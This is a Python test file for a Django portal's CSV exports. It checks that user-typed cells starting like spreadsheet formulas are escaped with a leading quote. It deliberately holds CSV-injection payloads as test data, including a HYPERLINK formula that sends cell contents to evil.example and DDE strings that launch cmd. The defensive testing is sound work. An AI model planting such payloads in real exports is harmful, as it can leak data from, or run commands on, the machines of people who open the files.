"""CSV exports: a cell typed by a person never runs as a spreadsheet formula (CSV injection).

Every text cell that starts with =, +, -, @, a tab or a carriage return is written with a single
quote in front, in every CSV the portal writes; all of them go through `core.csvsafe`.
"""

import io
import re
from pathlib import Path

import pytest
from django.urls import reverse

from core import csvsafe
from tests.actors import login

from .support import district, lao, read_csv, staff

NOW = "2025-04-10T09:00:00+07:00"
ROOT = Path(__file__).resolve().parents[2]
HOSTILE_DISTRICT = '=HYPERLINK("http://evil.example/?"&A1,"ดูรายละเอียด")'

# What people type, and what the file must hold instead.
DANGEROUS = {
    '=HYPERLINK("http://evil.example/?"&A1,"คลิก")': '\'=HYPERLINK("http://evil.example/?"&A1,"คลิก")',
    "+66 81 234 5678": "'+66 81 234 5678",
    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
}


@pytest.mark.parametrize(("typed", "written"), DANGEROUS.items(), ids=list("=+-@tr"))
def test_a_cell_starting_like_a_formula_is_written_with_a_quote_in_front(typed, written):
    assert csvsafe.safe_cell(typed) == written


@pytest.mark.parametrize(
    "value", ["สมศรี ใจดี", "081-234-5678", "a=b", "lao@test.example", "", "10 เม.ย. 2568"]
)
def test_ordinary_text_is_written_as_it_is(value):
    assert csvsafe.safe_cell(value) == value


@pytest.mark.parametrize("value", [0, 12, -3, 45.5, None])
def test_numbers_the_portal_computes_stay_numbers(value):
    assert csvsafe.safe_cell(value) == value


def test_the_writer_escapes_every_cell_of_every_row():
    buffer = io.StringIO()
    writer = csvsafe.writer(buffer)
    writer.writerow(["=1+1", "ok"])
    writer.writerows([["@x", "+y"], ["-z", 7]])
    assert buffer.getvalue().splitlines() == ["'=1+1,ok", "'@x,'+y", "'-z,7"]


@pytest.fixture
def hostile_names(actors, places, portal_clock, circulars):
    """Names and phones as someone typed them to attack the officers who open the files."""
    portal_clock(NOW)
    d4801 = places.lao.district
    named = lao(d4801, 5)
    staff(named, full_name="@SUM(1+1)*cmd|' /C calc'!A0", phone="+66 81 234 5678")
    staff(places.lao, full_name="-2+3+cmd|' /C calc'!A0", phone="\t=1+1")
    # a district's name comes from the registry's files: a summary row starts with it
    lao(district("4803", name_th=HOSTILE_DISTRICT), 1)
    return places


def _cells(rows):
    return [cell for row in rows for cell in row]


@pytest.mark.parametrize(
    "query",
    [
        {"table": "late", "params": "province=48&district=4801"},
        {"table": "late", "params": ""},
        {"table": "summary", "params": "province=48&district=4801"},
        {"table": "summary", "params": "province=48"},
    ],
    ids=["late-district", "late-country", "summary-district", "summary-province"],
)
def test_no_cell_of_an_export_starts_like_a_formula(client, actors, hostile_names, query):
    login(client, actors["dla_officer"])
    url = reverse("compliance:export", args=[query["table"], "csv"])
    response = client.get(f"{url}?{query['params']}" if query["params"] else url)

    assert response.status_code == 200
    cells = _cells(read_csv(response))
    assert cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_what_was_typed_is_kept_behind_the_quote(client, actors, hostile_names):
    login(client, actors["dla_officer"])
    late = reverse("compliance:export", args=["late", "csv"])
    cells = _cells(read_csv(client.get(f"{late}?province=48&district=4801")))
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
    assert "'+66 81 234 5678" in cells
    summary = reverse("compliance:export", args=["summary", "csv"])
    cells = _cells(read_csv(client.get(f"{summary}?province=48")))
    assert "'" + HOSTILE_DISTRICT in cells


def test_every_csv_the_portal_writes_goes_through_the_one_helper():
    """No module but core/csvsafe.py makes a csv writer of its own."""
    writers = re.compile(r"\bcsv\.(writer|DictWriter)\s*\(")
    offenders = []
    for path in ROOT.rglob("*.py"):
        relative = path.relative_to(ROOT)
        if (
            relative.parts[0] in ("tests", "bench", ".venv", "var", "mutants")
            or "migrations" in relative.parts
        ):
            continue
        if relative == Path("core/csvsafe.py"):
            continue
        if writers.search(path.read_text(encoding="utf-8")):
            offenders.append(str(relative))
    assert offenders == []
